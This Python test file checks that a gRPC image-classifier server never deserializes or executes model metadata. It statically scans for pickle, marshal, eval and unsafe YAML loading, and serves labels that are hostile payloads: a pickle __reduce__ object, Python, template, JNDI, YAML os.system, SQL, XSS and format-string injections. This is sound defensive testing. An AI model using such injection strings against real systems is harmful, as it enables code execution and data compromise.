"""The server never unpickles or executes anything from a request or a model's metadata (issue 6).

Two checks: a static one over every module of ``service/`` (no deserializer
that can run code, no eval/exec, no unsafe YAML), and a live one: a model
whose labels are code, template and pickle payloads is served, and the
labels come back verbatim as text while the payloads' side effect (a file)
never appears.
"""

from __future__ import annotations

import ast
import pickle
from pathlib import Path

import pytest

from service.gen.svertka.v1 import classifier_pb2 as cpb
from service.gen.svertka.v1 import classifier_pb2_grpc as cgrpc
from tests.api.conftest import InProcessServer
from tests.helpers import ROOT
from tests.helpers.tinymodel import make_tiny_model
from tests.reliability import hostile

SERVICE = ROOT / "service"
#: Modules whose loaders run code from the data they read.
CODE_RUNNING_MODULES = {"pickle", "cPickle", "_pickle", "marshal", "shelve", "dill", "cloudpickle", "joblib"}
CODE_RUNNING_BUILTINS = {"eval", "exec", "compile", "__import__"}


def _service_modules() -> list[Path]:
    return sorted(p for p in SERVICE.rglob("*.py") if "gen" not in p.relative_to(SERVICE).parts)


def _problems(path: Path, root: Path = ROOT) -> list[str]:
    tree = ast.parse(path.read_text(), filename=str(path))
    found = []
    for node in ast.walk(tree):
        where = f"{path.relative_to(root)}:{getattr(node, 'lineno', 0)}"
        if isinstance(node, ast.Import):
            found += [
                f"{where} imports {a.name}"
                for a in node.names
                if a.name.split(".")[0] in CODE_RUNNING_MODULES
            ]
        elif isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] in CODE_RUNNING_MODULES:
            found.append(f"{where} imports from {node.module}")
        elif isinstance(node, ast.Call):
            func = node.func
            if isinstance(func, ast.Name) and func.id in CODE_RUNNING_BUILTINS:
                found.append(f"{where} calls {func.id}()")
            if isinstance(func, ast.Attribute):
                owner = func.value.id if isinstance(func.value, ast.Name) else ""
                if owner == "yaml" and func.attr in ("load", "unsafe_load", "full_load", "load_all"):
                    found.append(f"{where} calls yaml.{func.attr} (use yaml.safe_load)")
                if func.attr == "load" and owner in ("np", "numpy"):
                    for kw in node.keywords:
                        if kw.arg == "allow_pickle" and not (
                            isinstance(kw.value, ast.Constant) and kw.value.value is False
                        ):
                            found.append(f"{where} calls np.load with allow_pickle")
    return found


def test_no_service_module_can_run_code_from_data():
    modules = _service_modules()
    assert len(modules) > 10  # the scan really looked at the server
    problems = [p for path in modules for p in _problems(path)]
    assert not problems, problems


def test_the_static_check_catches_what_it_looks_for(tmp_path):
    bad = tmp_path / "bad.py"
    bad.write_text(
        "import pickle\nfrom marshal import loads\nimport yaml\nimport numpy as np\n"
        "eval('1')\nyaml.load('a')\nnp.load('x', allow_pickle=True)\n"
    )
    assert len(_problems(bad, root=tmp_path)) == 5


@pytest.fixture()
def sentinel(tmp_path) -> Path:
    return tmp_path / "PWNED"


@pytest.mark.integration
def test_hostile_metadata_is_served_as_text_and_never_run(tmp_path, sentinel):
    class Payload:
        def __reduce__(self):
            return (Path.touch, (sentinel,))

    pickled = pickle.dumps(Payload(), protocol=0).decode("latin-1")
    labels = [
        f"__import__('pathlib').Path({str(sentinel)!r}).touch()",
        "{{ 7 * 7 }}",
        "${jndi:ldap://example.invalid/a}",
        pickled,
        "!!python/object/apply:os.system ['touch PWNED']",
        "'; DROP TABLE models; --",
        "<script>alert(1)</script>",
        "\u202eevil\u0000nul",
        "%s%s%s%n",
        "ok",
    ]
    repo = tmp_path / "repo"
    make_tiny_model(repo / "hostile" / "1" / "model.onnx", labels=labels)
    server = InProcessServer(repo)
    try:
        with server.channel() as channel:
            response = cgrpc.ImageClassifierStub(channel).Classify(
                cpb.ClassifyRequest(model="hostile", image=hostile.png(), top_k=10), timeout=30
            )
    finally:
        server.close()
    assert sorted(p.label for p in response.predictions) == sorted(labels)
    assert not sentinel.exists()
